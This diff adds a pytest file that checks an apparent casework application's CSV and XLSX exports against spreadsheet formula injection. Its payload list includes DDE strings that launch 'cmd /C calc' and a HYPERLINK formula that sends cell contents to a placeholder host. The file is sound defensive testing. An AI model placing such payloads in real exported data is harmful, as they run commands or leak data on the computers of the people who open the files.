@@ -1,0 +1,71 @@
+"""Exports a spreadsheet cannot be tricked into running (CSV injection), in CSV and XLSX."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from fastapi.testclient import TestClient
+from openpyxl import load_workbook
+
+from fortress.casework.exports import neutralise
+from helpers.casework import sign_in
+
+PAYLOADS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_formula_is_made_inert(payload: str) -> None:
+    assert neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("plain", ["+447700900123", "-12.5", "42", "Runner at 4 Example Road", ""])
+def test_plain_values_are_left_alone(plain: str) -> None:
+    assert neutralise(plain) == plain
+
+
+def _record_payloads(client: TestClient) -> dict[str, str]:
+    headers = sign_in(client, "analyst")
+    for payload in PAYLOADS:
+        body = {"text": payload, "grade": {"source_evaluation": "2", "assessment": "B",
+                "handling_code": "C", "conditions": payload}}  # fmt: skip
+        assert client.post("/api/v1/intelligence", json=body, headers=headers).status_code == 201
+    return headers
+
+
+def test_the_csv_export_carries_every_payload_inert(client: TestClient) -> None:
+    headers = _record_payloads(client)
+    answer = client.get("/api/v1/exports/intelligence?format=csv", headers=headers)
+    assert answer.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+    assert rows[0][:4] == ["id", "grade", "handling conditions", "text"]
+    texts = [row[3] for row in rows[1:]]
+    stored = ["'" + p.strip() for p in PAYLOADS]  # reports are stored without outer spaces
+    assert sorted(texts[: len(PAYLOADS)]) == sorted(stored)
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+
+
+def test_the_xlsx_export_has_no_formula_cells(client: TestClient) -> None:
+    headers = _record_payloads(client)
+    answer = client.get("/api/v1/exports/intelligence?format=xlsx", headers=headers)
+    sheet = load_workbook(io.BytesIO(answer.content)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert cells and all(cell.data_type == "s" for cell in cells if cell.value is not None)
+    texts = {cell.value for cell in cells}
+    assert {"'" + p.strip() for p in PAYLOADS} <= texts
+
+
+def test_an_unknown_format_is_a_clear_4xx(client: TestClient) -> None:
+    answer = client.get("/api/v1/exports/intelligence?format=ods",
+                        headers=sign_in(client, "analyst"))  # fmt: skip
+    assert answer.status_code == 422 and "format" in " ".join(answer.json()["problems"])
